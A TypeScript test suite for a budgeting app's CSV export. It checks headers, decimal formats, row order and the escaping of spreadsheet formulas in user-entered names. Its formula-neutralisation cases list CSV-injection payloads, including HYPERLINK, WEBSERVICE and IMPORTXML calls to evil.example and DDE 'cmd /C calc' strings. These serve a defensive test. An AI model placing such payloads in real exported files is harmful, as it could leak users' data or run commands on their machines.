import { dsvFormat } from 'd3-dsv';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { StoredDocument } from '../../domain/archive/account-patch.ts';
import { defaultParameters } from '../../domain/parameters/parameters.ts';
import { parametersFields } from '../budget/mapping/parameters-document.ts';
import { csvText, type CsvWords } from './csv-export.ts';
import { accountOf } from './stored-account.ts';
import { march, marchLines, sheetDocumentOf } from '../../../testing/api/archive-documents.ts';

const columns = {
  sheet: 'Feuille',
  collection: 'Rubrique',
  day: 'Jour',
  name: 'Nom',
  category: 'Catégorie',
  kind: 'Sens',
  amount: 'Montant',
  paid: 'Payé',
  copy: 'Reporté',
  periodicity: 'Périodicité',
  price: 'Prix',
  start: 'Début',
  numberMonthlyPayments: 'Nombre',
  deductions: 'Déductions',
};

const collections = {
  balances: 'Soldes',
  in: 'Revenus',
  outDay: 'Dépenses',
  outMonth: 'Charges',
  moneySaving: 'Épargne',
  provisions: 'Provisions',
};

const words: CsvWords = {
  columnOf: (column) => columns[column],
  collectionOf: (collection) => collections[collection],
  accountBalance: 'Solde',
  accountProvisionsBalance: 'Solde des provisions',
  debit: 'Débit',
  credit: 'Crédit',
  yes: 'Oui',
  no: 'Non',
  decimalMark: ',',
  separator: ';',
};

const account = accountOf([march, ...marchLines]);
const english: CsvWords = { ...words, decimalMark: '.', separator: ',' };

/** A reader of RFC 4180, written from its grammar. */
const readRfc4180 = (file: string, separator: string): readonly (readonly string[])[] => {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"\\r\\n${separator}]*))(${separator}|\\r\\n)`, 'gyu');
  for (const [, inQuotes, bare = '', end] of file.slice(1).matchAll(cell)) {
    row.push(inQuotes?.replaceAll('""', '"') ?? bare);
    if (end === separator) continue;
    rows.push(row);
    row = [];
  }
  return rows;
};

const read = (given: CsvWords, content = account) =>
  dsvFormat(given.separator).parseRows(csvText(content, given).slice(1));

const lineIn = (collection: string, fields: object) => ({
  path: `${march.path}/${collection}/Line0000000000000000`,
  fields: { name: { stringValue: 'Line' }, ...fields },
});
const withName = (name: string) => accountOf([march, lineIn('in', { name: { stringValue: name } })]);
const nameCell = (name: string, given = words): string => read(given, withName(name)).at(-1)?.[3] ?? '';

const parametersWith = (name: string, operation: string): StoredDocument => ({
  path: 'parameters',
  fields: parametersFields({ ...defaultParameters, categories: [{ name, operations: [operation] }] }),
});

const rent = (operation: string) =>
  read(words, accountOf([march, ...marchLines, parametersWith('Maison', operation)])).find((row) => row[3] === 'Loyer');

describe('the exported table', () => {
  test('starts with a byte order mark and the column names', () => {
    expect(csvText(account, words).split('\r\n')[0]).toBe(`\uFEFF"${Object.values(columns).join('";"')}"`);
  });

  // Source: docs/specification.md#export-csv.
  test('shows the current category of an expense, otherwise the stored one', () => {
    expect(rent('loyer')?.[4]).toBe('Maison');
    expect(rent('Gaz')?.[4]).toBe('Logement');
  });

  // Source: docs/specification.md#export-csv.
  test('has a row for each balance and each line, with every digit and a decimal comma', () => {
    expect(
      read(words)
        .slice(1)
        .map((row) => row.join(';')),
    ).toEqual([
      '2026-03-01;Soldes;;Solde;;;1284,56;;;;;;;',
      '2026-03-01;Soldes;;Solde des provisions;;;-400,00;;;;;;;',
      '2026-03-01;Revenus;;Salaire;;;2100,50;;;;;;;',
      '2026-03-01;Dépenses;31;Loyer;Logement;Crédit;12,50;Oui;2026-2-1;;;;;',
      '2026-03-01;Dépenses;2;\'=SOMME(A1:A9);"x";;Débit;-3,005;Non;;;;;;',
      '2026-03-01;Charges;;Gaz;;;60,00;Non;;;;;;',
      '2026-03-01;Épargne;;Livret;;;150,00;;;;;;;',
      "2026-03-01;Provisions;;Vacances;;;100,00;;;an;1200,00;janvier;12;'-10, 20",
    ]);
  });

  // Source: docs/specification.md#export-csv, docs/specification.md#due-day-older.
  test('reads the due day of charges and incomes, even if an older document stores it as `day`', () => {
    const lines = [
      lineIn('in', { dueDay: { integerValue: '28' } }),
      lineIn('moneySaving', { day: { integerValue: '9' } }),
      lineIn('outMonth', { day: { integerValue: '12' } }),
    ];
    const written = read(words, accountOf([march, ...lines]));
    expect(written.slice(3, 6).map((row) => row.slice(1, 3))).toEqual([
      ['Revenus', '28'],
      ['Charges', '12'],
      ['Épargne', ''],
    ]);
  });

  test('uses the decimal point and the comma that English spreadsheets use', () => {
    expect(csvText(account, english).split('\r\n')[3]).toBe(
      '"2026-03-01","Revenus","","Salaire","","","2100.50","","","","","","",""',
    );
  });

  // Source: docs/specification.md#export-csv.
  test.each([
    '=1+1',
    '=1+1;B2',
    '=SUM(A1:A9)',
    '=A1',
    '==1',
    '=-1',
    "='sheet'!A1",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "=cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\calc.exe'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '+33 1',
    '+1+1',
    '+A1',
    "+cmd|' /C calc'!A0",
    '-A1',
    '-1-1',
    '-2+3',
    "-cmd|' /C calc'!A0",
    '-10, 20',
    '@SUM(A1)',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '@A1',
    '\tx',
    '\t=1+1',
    '\rx',
    '\r=1+1',
    '\0x',
    '\0=1+1',
    '\n=1+1',
    '=1+1\n"',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
  ])('neutralises a formula: %j', (name) => {
    expect(nameCell(name).startsWith(`'${name.slice(0, 1)}`)).toBe(true);
  });

  test.each([
    ['a,=1+1', "a,'=1+1"],
    ['a;=1+1', "a;'=1+1"],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r\n@SUM(A1)', "a\r\n'@SUM(A1)"],
    ['a\t-1+1', "a\t'-1+1"],
    ['a, "+1+1', 'a, "\'+1+1'],
    ['a,-5,=1', "a,-5,'=1"],
    ['a,-5"', 'a,\'-5"'],
  ])('neutralises a formula after a separator or a line break: %j', (name, cell) => {
    expect([nameCell(name), nameCell(name, english)]).toEqual([cell, cell]);
  });

  test.each(['-5', '-5,50', '-1284.56', '+12', '12', 'Pain', "'a", '1-1', 'a=1', '10,-20', 'Pain - beurre'])(
    'leaves %j unchanged',
    (name) => {
      expect(nameCell(name)).toBe(name);
    },
  );

  const texts = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '＝', ' ', ',', ';', '"', "'", '\t', '\r', '\n', '\0', 'a', '1', '.'),
  });

  // Source: docs/specification.md#export-csv.
  test.each([
    ['French', words],
    ['English', english],
  ])('is read alike by two readers, with any name, in %s', (_, given) => {
    fc.assert(
      fc.property(texts, (name) => {
        const content = withName(name);
        const rows = read(given, content);
        expect(readRfc4180(csvText(content, given), given.separator)).toEqual(rows);
        expect(rows.every((row) => row.length === Object.keys(columns).length)).toBe(true);
        expect(rows.at(-1)?.[3]?.replaceAll("'", '')).toBe(name.replaceAll("'", ''));
      }),
    );
  });

  test('contains no spreadsheet formula, wherever a program splits the text', () => {
    fc.assert(
      fc.property(texts, fc.constantFrom(words, english), (name, given) => {
        const pieces = csvText(withName(name), given)
          .slice(1)
          .split(/[,;\t\r\n]/u);
        const formulas = pieces
          .map((piece) => piece.replaceAll(/^[\s"\0]+|[\s"\0]+$/gu, ''))
          .filter((piece) => /^[=+\-@＝]/u.test(piece) && !/^[+-]?\d+(?:\.\d+)?$/u.test(piece));
        expect(formulas).toEqual([]);
      }),
    );
  });

  // Source: docs/specification.md#export-csv.
  test('lists the newest sheet first', () => {
    const both = accountOf([march, sheetDocumentOf('April000000000000000', '2026-4-12')]);
    const dates = read(words, both).map(([date]) => date);
    expect(dates.slice(1, 5)).toEqual(['2026-04-12', '2026-04-12', '2026-03-01', '2026-03-01']);
  });
});
